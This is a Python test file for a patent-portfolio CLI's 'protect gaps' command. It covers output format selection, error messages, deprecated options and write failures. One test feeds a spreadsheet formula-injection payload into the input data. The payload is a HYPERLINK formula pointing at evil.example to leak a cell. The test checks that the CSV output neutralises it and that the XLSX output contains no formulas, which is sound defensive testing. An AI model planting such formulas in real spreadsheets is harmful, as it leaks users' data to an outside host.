"""``protect gaps`` speaks the shared option vocabulary and writes no formula into a spreadsheet.

``--out``/``-o`` names the output file and, without ``--format``, its extension chooses the
format (.txt table, .csv routes, .json, .xlsx, .ics); an unknown extension stops with exit 2
and the list. The old ``--output`` and ``-e`` (for ``--exports``) still work, hidden from help.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from icalendar import Calendar
from openpyxl import load_workbook
from typer.testing import CliRunner

from patentreach.cli.main import app
from patentreach.protect import sample_path

runner = CliRunner(env={"COLUMNS": "200"})
PORTFOLIO = ["--portfolio", str(sample_path("portfolio.csv")), "--as-of", "2026-06-01"]
EXPORTS = ["--exports", str(sample_path("exports.csv"))]
HYPERLINK = '=HYPERLINK("http://evil.example/?leak=A1")'  # no comma: a family list splits on commas


def _run(tmp_path, *args: str):
    return runner.invoke(app, ["protect", "gaps", *PORTFOLIO, *args, "-w", str(tmp_path / "none")])


@pytest.mark.parametrize(("name", "check"), [
    ("gaps.json", lambda path: json.loads(path.read_text())["summary"]["markets"] == 20),
    ("routes.csv", lambda path: next(csv.reader(io.StringIO(path.read_text())))[0] == "family"),
    ("gaps.xlsx", lambda path: load_workbook(path).sheetnames[:2] == ["summary", "next deadlines"]),
    ("deadlines.ics", lambda path: len(list(Calendar.from_ical(path.read_bytes()).walk("VEVENT"))) == 15),
    ("gaps.txt", lambda path: "Export protection gaps - Example Pumps Co." in path.read_text()),
])
def test_out_without_format_writes_the_format_of_its_extension(name, check, tmp_path):
    out = tmp_path / name
    result = _run(tmp_path, *EXPORTS, "--out", str(out))
    assert result.exit_code == 0, result.output
    assert f"wrote {out}" in result.output
    assert check(out)


def test_an_out_extension_with_no_format_is_exit_2_listing_the_formats(tmp_path):
    out = tmp_path / "gaps.pdf"
    result = _run(tmp_path, *EXPORTS, "--out", str(out))
    assert result.exit_code == 2
    assert (f"error: --out {out}: cannot tell the format from '.pdf'; use one of .txt, .csv, .json, .xlsx, .ics "
            "or give --format (table, csv, json, xlsx, ics)") in result.output
    assert not out.exists()


def test_an_unknown_format_names_the_choices_and_the_closest(tmp_path):
    result = _run(tmp_path, *EXPORTS, "-f", "jsn")
    assert result.exit_code == 2
    assert "error: --format 'jsn' is not one of table, csv, json, xlsx, ics; did you mean 'json'?" in result.output


def test_the_old_spellings_still_work_and_are_hidden(tmp_path):
    out = tmp_path / "old.json"
    result = runner.invoke(app, ["protect", "gaps", *PORTFOLIO, "-e", str(sample_path("exports.csv")),
                                 "--output", str(out), "-w", str(tmp_path / "none")])
    assert result.exit_code == 0, result.output
    assert json.loads(out.read_text())["summary"]["markets"] == 20
    help_text = runner.invoke(app, ["protect", "gaps", "--help"]).output
    assert "--output" not in help_text and "-e," not in help_text and "--exports" in help_text


def test_missing_exports_is_exit_2(tmp_path):
    result = runner.invoke(app, ["protect", "gaps", *PORTFOLIO])
    assert result.exit_code == 2
    assert "error: missing option --exports FILE" in result.output


def test_formula_text_in_a_portfolio_is_quoted_in_csv_and_no_formula_in_xlsx(tmp_path):
    portfolio = tmp_path / "portfolio.csv"
    portfolio.write_text(sample_path("portfolio.csv").read_text(encoding="utf-8").replace("PUMP-1", HYPERLINK
                         .replace('"', '""').join('""')), encoding="utf-8")
    exports = tmp_path / "exports.csv"
    exports.write_text(sample_path("exports.csv").read_text(encoding="utf-8").replace("PUMP-1", HYPERLINK
                       .replace('"', '""').join('""')), encoding="utf-8")
    args = ["protect", "gaps", "--portfolio", str(portfolio), "--exports", str(exports), "--as-of", "2026-06-01",
            "-w", str(tmp_path / "none")]
    result = runner.invoke(app, [*args, "-o", str(tmp_path / "routes.csv")])
    assert result.exit_code == 0, result.output
    families = {row["family"] for row in csv.DictReader(io.StringIO((tmp_path / "routes.csv").read_text()))}
    assert "'" + HYPERLINK in families and HYPERLINK not in families
    result = runner.invoke(app, [*args, "-o", str(tmp_path / "gaps.xlsx")])
    assert result.exit_code == 0, result.output
    book = load_workbook(tmp_path / "gaps.xlsx")
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert any(cell.value == "'" + HYPERLINK for cell in cells)


@pytest.mark.parametrize("name", ["gaps.txt", "routes.csv", "gaps.json", "gaps.xlsx", "deadlines.ics"])
def test_an_output_that_cannot_be_written_is_one_line_naming_it(name, tmp_path):
    blocker = tmp_path / "a_file"
    blocker.write_text("not a folder", encoding="utf-8")
    result = _run(tmp_path, *EXPORTS, "--out", str(blocker / name))
    assert result.exit_code == 2, result.output
    lines = [line for line in result.output.splitlines() if line.startswith("error:")]
    assert len(lines) == 1 and lines[0].startswith(f"error: {blocker / name}: cannot write"), result.output
